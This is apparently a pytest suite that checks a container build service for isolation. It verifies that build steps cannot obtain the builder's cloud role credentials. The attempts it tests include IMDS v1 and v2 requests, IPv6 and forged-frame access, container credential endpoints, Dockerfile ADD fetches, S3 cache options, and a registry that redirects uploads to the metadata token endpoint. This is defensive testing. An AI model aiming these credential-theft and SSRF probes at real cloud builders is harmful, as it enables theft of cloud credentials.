"""Builds that want their builder's role: real RUN steps and build requests on a real builder, and what they got.

Where an attack finds nothing, another line shows that there was something to find: the builder itself gets it.
"""

import re
import ssl
import subprocess
import sys
from collections.abc import Callable, Iterator
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from socketserver import BaseRequestHandler, UDPServer
from urllib.parse import urlsplit

import pytest

from local.builder import Builder
from local.client import BuildError
from local.emulator.aws import REGION
from local.guest import imds
from local.lab import Lab
from tests.attacker import METADATA, Attacker, beyond, inside, let_through, own_address, served, until_answered

pytest_plugins = ["tests.attack_fixtures"]

METADATA_IPV6 = "fd00:ec2::254"
FROM_STEPS = ("raw", "PREROUTING", "--in-interface", "buildkit0")
DNS = "169.254.169.253"
TIME = "169.254.169.123"


class AnswerWhoeverHasTheToken(BaseHTTPRequestHandler):
    """A container's credential service: its token is in the container's environment, and nowhere else."""

    def do_GET(self) -> None:
        allowed = self.headers.get("Authorization") == "token"
        self.send_response(HTTPStatus.OK if allowed else HTTPStatus.UNAUTHORIZED)
        self.end_headers()
        self.wfile.write(b"credentials" if allowed else b"")

    def log_message(self, *_: object) -> None:
        return


class AnswerDatagrams(BaseRequestHandler):
    def handle(self) -> None:
        _, asking = self.request
        asking.sendto(b"answer", self.client_address)


def test_the_builder_itself_reads_its_roles_credentials(lab: Lab, on_builder: Callable[..., str]) -> None:
    got = on_builder("credentials", METADATA)

    assert lab.credentials("main")["SecretAccessKey"] in got


def test_a_step_gets_no_credentials_by_imds_version_1(attacker: Attacker) -> None:
    got = attacker.run("http", "GET", f"http://{METADATA}/latest/meta-data/iam/security-credentials/")

    assert "timed out" in got


def test_a_step_gets_no_token_by_imds_version_2(attacker: Attacker) -> None:
    got = attacker.run("http", "PUT", f"http://{METADATA}/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds:60")

    assert "timed out" in got


def test_a_step_gets_no_credentials_by_imds_version_2(attacker: Attacker) -> None:
    assert "timed out" in attacker.run("credentials", METADATA)


@pytest.fixture(params=[64], ids=["no hop limit"])
def far_metadata(
    request: pytest.FixtureRequest, lab: Lab, builder: Builder, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    """Put the builder's metadata service one hop away, as on an instance."""
    monkeypatch.setattr(imds, "HOP_LIMIT", request.param)
    credentials = lab.credentials("main")
    values = imds.metadata(
        instance_id=builder.instance_id, region=REGION, role_name=credentials["RoleName"], credentials=credentials
    )
    change = [*inside(builder), "ip", "address"]
    with own_address(METADATA):
        server = imds.serve(lambda: values)
        subprocess.run([*change, "delete", f"{METADATA}/32", "dev", "lo"], check=True)
        yield
        subprocess.run([*change, "add", f"{METADATA}/32", "dev", "lo"], check=True)
        server.shutdown()
        server.server_close()


@pytest.mark.usefixtures("far_metadata")
def test_a_step_gets_no_credentials_from_a_metadata_service_one_hop_away(attacker: Attacker) -> None:
    assert "timed out" in attacker.run("credentials", METADATA)


@pytest.mark.usefixtures("far_metadata")
def test_without_the_rule_a_step_would_get_the_credentials(lab: Lab, attacker: Attacker, builder: Builder) -> None:
    with let_through(builder, *FROM_STEPS):
        assert lab.credentials("main")["SecretAccessKey"] in attacker.run("credentials", METADATA)


@pytest.mark.usefixtures("far_metadata")
@pytest.mark.parametrize("far_metadata", [imds.HOP_LIMIT], indirect=True)
def test_without_the_rule_the_hop_limit_would_still_keep_them(attacker: Attacker, builder: Builder) -> None:
    with let_through(builder, *FROM_STEPS):
        assert "timed out" in attacker.run("credentials", METADATA)


@pytest.mark.usefixtures("raw_sockets")
def test_a_forged_frame_for_the_metadata_service_would_be_dropped(attacker: Attacker) -> None:
    assert attacker.run("forge", METADATA) == "silence"


@pytest.mark.usefixtures("raw_sockets")
def test_a_forged_frame_for_anyone_else_would_be_answered(attacker: Attacker) -> None:
    with own_address("192.0.2.1"):
        assert attacker.run("forge", "192.0.2.1") == "answered"


@pytest.fixture
def metadata_over_ipv6(builder: Builder, on_builder: Callable[..., str]) -> Iterator[None]:
    change = [*inside(builder), "ip", "-6", "address"]
    subprocess.run([*change, "add", f"{METADATA_IPV6}/128", "dev", "lo", "nodad"], check=True)
    with served(builder, METADATA_IPV6, "80"):
        assert until_answered(lambda: on_builder("connect", METADATA_IPV6, "80"), "connected") == "connected"
        yield
    subprocess.run([*change, "delete", f"{METADATA_IPV6}/128", "dev", "lo"], check=True)


@pytest.mark.usefixtures("metadata_over_ipv6")
def test_a_step_has_no_route_to_the_metadata_service_over_ipv6(attacker: Attacker) -> None:
    assert "Network is unreachable" in attacker.run("connect", METADATA_IPV6, "80")


@pytest.mark.usefixtures("metadata_over_ipv6", "raw_sockets")
def test_a_forged_frame_for_the_metadata_service_over_ipv6_would_be_dropped(attacker: Attacker) -> None:
    assert attacker.run("forge", METADATA_IPV6) == "silence"


@pytest.mark.parametrize("url", ["http://169.254.170.2/v2/credentials", "http://169.254.170.23/v1/credentials"])
def test_a_step_gets_nothing_from_a_container_credential_service(
    attacker: Attacker, on_builder: Callable[..., str], url: str
) -> None:
    address = urlsplit(url).hostname or ""
    with beyond(address, 80, HTTPServer, AnswerWhoeverHasTheToken):
        assert on_builder("http", "GET", url, "Authorization:token") == "200 credentials"

        got = attacker.run("http", "GET", url)

    assert "credentials" not in got


def test_the_daemon_cannot_be_sent_to_the_metadata_service(attacker: Attacker) -> None:
    # `ADD` is fetched by the daemon, in the builder's own network: version 2 wants a PUT and a header first.
    with pytest.raises(BuildError, match="401"):
        attacker.build(f"FROM scratch\nADD http://{METADATA}/latest/meta-data/iam/security-credentials/ /got\n")


def test_the_daemon_cannot_be_sent_there_to_put_a_cache(attacker: Attacker) -> None:
    # The key of the cache's manifest makes a request for a token, `PUT /latest/api/token`, but for one header.
    options = f"endpoint_url=http://{METADATA},use_path_style=true,bucket=latest,manifests_prefix=api/,name=token"

    # An image without layers: what is asked first, whether a layer is there, is refused too.
    with pytest.raises(BuildError, match="400"):
        attacker.build(
            "FROM scratch\nLABEL layers=none\n",
            arguments=[f"--cache-to=type=s3,{options},blobs_prefix=,access_key_id=,secret_access_key="],
        )


def test_the_daemon_cannot_be_sent_there_by_a_registry(attacker: Attacker, lab: Lab, tmp_path: Path) -> None:
    asked: list[str] = []
    certificate = lab.deployment.client_certificate("main")  # any will do: the client says not to look at it
    for name in ("tls.crt", "tls.key"):
        (tmp_path / name).write_text(certificate[name])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tmp_path / "tls.crt", tmp_path / "tls.key")

    class Secured(HTTPServer):
        def server_bind(self) -> None:
            super().server_bind()
            self.socket = context.wrap_socket(self.socket, server_side=True)

    class SendElsewhere(BaseHTTPRequestHandler):
        """A registry that wants every layer put at the metadata service."""

        def do_HEAD(self) -> None:
            self.send_response(HTTPStatus.NOT_FOUND)
            self.end_headers()

        def do_POST(self) -> None:
            asked.append(self.path)
            self.send_response(HTTPStatus.ACCEPTED)
            self.send_header("Location", f"http://{METADATA}/latest/api/token")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            return

    with (
        beyond("192.0.2.1", 443, Secured, SendElsewhere),
        pytest.raises(BuildError, match=r"PUT.*169\.254\.169\.254/latest/api/token.* 400 Bad Request"),
    ):
        attacker.build(
            "FROM scratch\nCOPY number /got\n",
            arguments=["--output=type=image,name=192.0.2.1:443/stolen,push=true,registry.insecure=true"],
        )

    assert asked


def test_a_cache_at_an_address_of_the_attackers_does_not_see_the_roles_secret(lab: Lab, attacker: Attacker) -> None:
    seen: list[str] = []

    class Listen(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(str(self.headers))
            self.send_error(HTTPStatus.NOT_FOUND)

        def log_message(self, *_: object) -> None:
            return

    with beyond("192.0.2.1", 80, HTTPServer, Listen):
        options = "bucket=b,region=us-east-1,name=n,endpoint_url=http://192.0.2.1,use_path_style=true"
        attacker.run(
            "processes",
            arguments=[f"--cache-from=type=s3,{options},access_key_id=,secret_access_key="],
        )

    (request,) = seen
    assert lab.credentials("main")["SecretAccessKey"] not in request
    signed = re.search(r"SignedHeaders=([^,]+),", request)
    assert signed
    assert "host" in signed[1].split(";")  # the signature is of use at no other address


# What must work meanwhile.


@pytest.mark.parametrize(("address", "port"), [(DNS, 53), (TIME, 123)], ids=["DNS", "time"])
def test_a_step_is_answered_by_the_vpcs_own_services(attacker: Attacker, address: str, port: int) -> None:
    with beyond(address, port, UDPServer, AnswerDatagrams):
        assert attacker.run("ask", address, str(port)) == "answer"


def test_a_step_looks_up_the_package_registry_and_reaches_it(attacker: Attacker) -> None:
    npm = Path(sys.executable).parent / "npm"
    url = subprocess.run([npm, "config", "get", "registry"], capture_output=True, text=True, check=True).stdout
    registry = urlsplit(url.strip())

    address = attacker.run("look_up", registry.hostname or "")
    got = attacker.run("connect", address, str(registry.port or {"http": 80, "https": 443}[registry.scheme]))

    assert got == "connected"
